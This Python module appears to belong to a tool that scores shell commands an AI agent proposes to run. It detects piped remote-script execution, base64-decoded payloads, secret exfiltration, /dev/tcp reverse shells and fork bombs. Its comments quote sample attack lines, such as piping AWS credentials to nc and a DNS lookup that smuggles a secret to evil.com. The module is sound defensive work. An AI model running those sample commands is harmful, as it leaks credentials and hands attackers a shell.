"""The second pass: commands joined through pipes, substitutions and variables (`curl … | sh`,
`cat ~/.aws/credentials | nc …`), and whole-script checks.
"""

from __future__ import annotations

import base64
import binascii
import re

from app.core.model import Category as K
from app.risk.analysis import Analyzer, short
from app.risk.commands.args import _PY, INTERPRETERS, q
from app.risk.commands.effects import delete_target, read_target
from app.risk.commands.files import _SECRET_VAR, _SECRET_WORDS, DELETE_FREE_READERS, GREPS
from app.risk.commands.network import DOWNLOADERS
from app.risk.shell import SHELLS, SimpleCommand, Word, unescape
from app.risk.wrappers import find_matches


def analyze_flows(an: Analyzer) -> None:
    """Join commands through pipes, substitutions and variables."""
    sc = an.script
    cmds = sc.commands
    for c in cmds:
        if c.keyword or not c.argv:
            continue
        name = c.name or ""
        up = sc.upstream(c.index)
        info = an.ci(c)
        code_from_stdin = _reads_code_from_stdin(c)
        if code_from_stdin:
            body_redirect = next((r for r in c.redirects if r.body is not None), None)
            if body_redirect is not None and not up:
                # lazily: inline code's rules are ~5 ms of regexes to load
                from app.risk.commands.inline import _run_code_text

                _run_code_text(
                    an,
                    c,
                    body_redirect.body or "",
                    body_redirect.body_offset,
                    body_redirect.span,
                    prefix=f"{code_from_stdin} reads: ",
                )
                if code_from_stdin not in SHELLS:
                    an.add(
                        K.RESOURCE,
                        5,
                        f"feeds inline code to {code_from_stdin}",
                        body_redirect.span,
                    )
            elif up:
                _judge_code_pipe(an, c, up, code_from_stdin)
        # shells and sourcing given a process substitution
        procsubs = [w for w in c.args if w.procsub == "<"]
        if procsubs and (
            name in SHELLS or name in ("source", ".") or name in INTERPRETERS or _PY.match(name)
        ):
            for w in procsubs:
                inner = [i for s in w.subs for i in [s, *sc.nested(s)]]
                _judge_code_source(an, c, inner, w.span, name)
        # the environment filtered for secrets (env | grep -i token)
        if up and name in GREPS and any(an.ci(cmds[i]).env_dump for i in up):
            pat = next((w for w in c.args if _SECRET_WORDS.search(w.value or "")), None)
            if pat is not None:
                info.env_dump = True
                an.add(
                    K.SECRETS,
                    65,
                    f"picks variables matching {q(pat)} out of the environment: "
                    "their values would reach the agent and its model provider",
                    pat.span,
                    *(cmds[i].span for i in up),
                )
        # senders fed by a pipe
        if info.sender is not None or (name in DOWNLOADERS and info.sender_label):
            _judge_send(an, c, up)
        # network tools handed a secret-looking variable (curl -H "X-Token: $GITHUB_TOKEN")
        if info.network or info.sender is not None:
            for w in c.args:
                m = _SECRET_VAR.search(w.text) if w.dynamic else None
                if m is not None:
                    where = info.sender_label or (
                        an.facts.hosts[-1] if an.facts.hosts else "the network"
                    )
                    an.add(
                        K.EXFILTRATION,
                        75,
                        f"sends ${m.group(1)}, which looks like a secret, to {where} with `{name}`",
                        w.span,
                    )
                    an.facts.sends_data.append(where)
                    break
        # network tools with substitutions (dig $(cat secret).evil.com, curl -d "$x")
        if info.network or info.sender is not None:
            for w in c.args:
                if not w.subs:
                    continue
                inner = [i for s in w.subs for i in [s, *sc.nested(s)]]
                secrets = [d for i in inner for d in an.ci(cmds[i]).secrets]
                env = any(an.ci(cmds[i]).env_dump for i in inner)
                if secrets or env:
                    what = ", ".join(dict.fromkeys(secrets)) or "environment variables"
                    an.add(
                        K.EXFILTRATION,
                        95,
                        f"sends {what} out over the network with `{name}`",
                        w.span,
                    )
                    an.facts.sends_data.append(name)
                else:
                    made = [cmds[i] for i in inner if cmds[i].argv]
                    what = short(" ".join(x.best for x in made[0].argv), 30) if made else "?"
                    an.add(
                        K.EXFILTRATION,
                        60,
                        f"sends the output of `{what}` out over the network with `{name}`",
                        w.span,
                    )
                    an.facts.sends_data.append(name)
    for c in cmds:
        if not c.stdin_args or not c.argv:
            continue
        found = [i for i in sc.upstream(c.index) if cmds[i].name in ("find", "fd", "fdfind", "ls")]
        for i in found:
            for pattern in find_matches(cmds[i].argv):
                w = Word(pattern, pattern, cmds[i].span)
                if c.name in ("rm", "shred", "unlink", "srm"):
                    delete_target(an, c, w, recursive=True)
                elif c.name in DELETE_FREE_READERS:
                    read_target(an, c, w)
    for owner, w in sc.dynamic_code:
        c = cmds[owner]
        inner = [i for s in w.subs for i in [s, *sc.nested(s)]]
        _judge_code_source(an, c, inner, w.span, c.name or "shell")
    for c in cmds:
        # `cmd=$(… | base64 -d); $cmd`: the command itself is what a decoder or download made.
        if c.name is not None or not c.argv or not c.argv[0].subs:
            continue
        inner = [i for s in c.argv[0].subs for i in [s, *sc.nested(s)]]
        if any(an.ci(cmds[i]).decoder or an.ci(cmds[i]).download is not None for i in inner):
            _judge_code_source(an, c, inner, c.argv[0].span, "the shell")


def _reads_code_from_stdin(c: SimpleCommand) -> str:
    """The interpreter name when `c` takes its program from stdin (`sh`, `python -`, …)."""
    name = c.name or ""
    args = [w.value for w in c.args]
    if name in SHELLS:
        rest = [a for a in args if a is not None and not a.startswith(("-", "+"))]
        if any(
            a is not None and "c" in a[1:] and a.startswith("-") and not a.startswith("--")
            for a in args
        ):
            return ""
        if not rest or "-s" in args or args[:1] == ["-"]:
            return name
        return ""
    if name in ("source", "."):
        if args and args[0] in ("/dev/stdin", "-", "/proc/self/fd/0"):
            return "the shell"
        return ""
    if name in ("iex", "Invoke-Expression"):
        return "PowerShell (iex)"
    if _PY.match(name) or name in INTERPRETERS:
        code_flags = ("-c", "-e", "-E", "-r", "--eval", "-p", "--print", "-x", "-m", "run", "eval")
        if any(a in code_flags for a in args):
            return ""
        rest = [a for a in args if a is not None and not a.startswith("-")]
        if not rest or args[:1] == ["-"] or "-" in args:
            return name
    return ""


def _judge_code_pipe(an: Analyzer, c: SimpleCommand, up: list[int], runner: str) -> None:
    _judge_code_source(an, c, up, c.argv[0].span, runner, piped=True)


def _judge_code_source(
    an: Analyzer,
    c: SimpleCommand,
    sources: list[int],
    span: tuple[int, int],
    runner: str,
    *,
    piped: bool = False,
) -> None:
    cmds = an.script.commands
    downloads = [an.ci(cmds[i]).download for i in sources if an.ci(cmds[i]).download is not None]
    dl_cmds = [cmds[i] for i in sources if an.ci(cmds[i]).download is not None]
    decoders = [cmds[i] for i in sources if an.ci(cmds[i]).decoder]
    how = "pipes it into" if piped else "hands it to"
    if downloads:
        hosts = ", ".join(
            dict.fromkeys(
                t.host if t and t.host != "unknown.invalid" else "a host known only at run time"
                for t in downloads
            )
        )
        an.add(
            K.SUPPLY_CHAIN,
            95,
            f"downloads a script from {hosts} and runs it ({how} {runner})",
            span,
            *(d.span for d in dl_cmds),
        )
        return
    if decoders:
        an.add(
            K.OBFUSCATION,
            92,
            f"decodes hidden text and runs it as code ({how} {runner})",
            span,
            *(d.span for d in decoders),
        )
        _try_decode(an, c, sources)
        return
    # Literal text piped into a shell: read it as code.
    texts = []
    for i in sources:
        s = cmds[i]
        if s.name in ("echo", "printf") and all(w.value is not None for w in s.args):
            vals = [
                w.value or ""
                for w in s.args
                if not (s.name == "echo" and w.value in ("-e", "-n", "-E"))
            ]
            if s.name == "printf" and vals:
                vals = [vals[0].replace("\\n", "\n").replace("\\t", "\t")]
            exact = s.args[0].exact if len(s.args) == 1 else None
            texts.append(
                (
                    " ".join(vals),
                    exact,
                    (s.args[0].span[0], s.args[-1].span[1]) if s.args else s.span,
                    s,
                )
            )
        elif s.name == "cat" and not s.args:
            body = next((r for r in s.redirects if r.body is not None), None)
            if body is not None:
                texts.append((body.body or "", body.body_offset, body.span, s))
    if texts and len(texts) == len(sources):
        # lazily: inline code's rules are ~5 ms of regexes to load
        from app.risk.commands.inline import _run_code_text

        for text, exact, sp, _s in texts:
            _run_code_text(an, c, text, exact, sp, prefix=f"{runner} runs: ")
        if all(s.name == "cat" for _t, _e, _sp, s in texts):
            an.add(K.RESOURCE, 5, f"feeds a here-document to {runner}", span)
        else:
            an.add(K.OBFUSCATION, 40, f"builds code as text and {how} {runner}", span)
        return
    secrets = [d for i in sources for d in an.ci(cmds[i]).secrets]
    an.add(
        K.OBFUSCATION,
        60 if not secrets else 70,
        f"runs code produced at run time by another command ({how} {runner})",
        span,
    )


def _try_decode(an: Analyzer, c: SimpleCommand, sources: list[int]) -> None:
    """`echo <base64> | base64 -d | sh`: decode the literal and show what it would run."""
    cmds = an.script.commands
    for i in sources:
        s = cmds[i]
        if s.name not in ("echo", "printf"):
            continue
        for w in s.args:
            v = w.value or ""
            if len(re.findall(r"\\(?:x[0-9a-fA-F]|[0-7]{3})", v)) >= 3:
                plain = unescape(v)
                if plain.isprintable() or "\n" in plain:
                    an.fragment(plain, None, w.span, s, prefix="decoded payload: ")
                continue
            if len(v) < 8 or not re.fullmatch(r"[A-Za-z0-9+/=\s]+", v):
                continue
            try:
                decoded = base64.b64decode(v + "=" * (-len(v) % 4), validate=False).decode("utf-8")
            except (binascii.Error, UnicodeDecodeError, ValueError):
                continue
            if decoded.isprintable() or "\n" in decoded:
                an.fragment(decoded, None, w.span, s, prefix="decoded payload: ")


def _judge_send(an: Analyzer, c: SimpleCommand, up: list[int]) -> None:
    cmds = an.script.commands
    info = an.ci(c)
    label = info.sender_label or "the network"
    if not up:
        return
    secrets = [d for i in up for d in an.ci(cmds[i]).secrets]
    env = any(an.ci(cmds[i]).env_dump for i in up)
    if secrets or env:
        what = ", ".join(dict.fromkeys(secrets)) or "your environment variables"
        an.add(K.EXFILTRATION, 95, f"sends {what} to {label}", c.span, *(cmds[i].span for i in up))
        an.facts.sends_data.append(label)
        return
    producers = [cmds[i] for i in up if cmds[i].argv]
    desc = " | ".join(short(" ".join(w.best for w in p.argv), 30) for p in producers[:2])
    an.add(K.EXFILTRATION, 70, f"sends the output of `{desc}` to {label}", c.span)
    an.facts.sends_data.append(label)


_DEV_NET = re.compile(r"/dev/(tcp|udp)/([^/\s]+)/(\d+)")


def analyze_script(an: Analyzer) -> None:
    sc = an.script
    if sc.errors:
        an.add(
            K.OBFUSCATION,
            45,
            "the shell text does not parse cleanly, so what bash would "
            "run cannot be reviewed exactly",
            *sc.errors[:3],
        )
    if sc.too_deep:
        an.add(K.OBFUSCATION, 60, "shell code is nested too deeply to review", (0, len(an.text)))
    if sc.errors or "<>" in an.text:
        # Text the parser could not place (`sh -i 5<> /dev/tcp/…`): a raw connection is still one.
        for m in _DEV_NET.finditer(an.text):
            shell = re.search(r"\b(ba|z|da|k)?sh\b[^|;&]*\s-i\b", an.text)
            an.add(
                K.PRIVILEGE if shell else K.NETWORK,
                95 if shell else 65,
                f"opens a raw network connection to {m.group(2)}:{m.group(3)} through "
                f"/dev/{m.group(1)}" + (" and hands it a shell (a reverse shell)" if shell else ""),
                m.span(),
            )
    for span in sc.endless:
        an.add(K.RESOURCE, 45, "loops forever: nothing in the loop ends it", span)
    if sc.too_large:
        an.add(K.RESOURCE, 50, "the command is too large to review in full", (0, len(an.text)))
    for name, span, body in sc.functions:
        calls = [
            sc.commands[i] for i in body if i < len(sc.commands) and sc.commands[i].name == name
        ]
        if calls and any(cc.background or cc.pipes for cc in calls):
            an.add(
                K.RESOURCE,
                90,
                f"defines `{name}` to start copies of itself endlessly (a "
                "fork bomb): the machine runs out of processes",
                span,
            )
        elif calls:
            an.add(K.RESOURCE, 30, f"`{name}` calls itself", span)
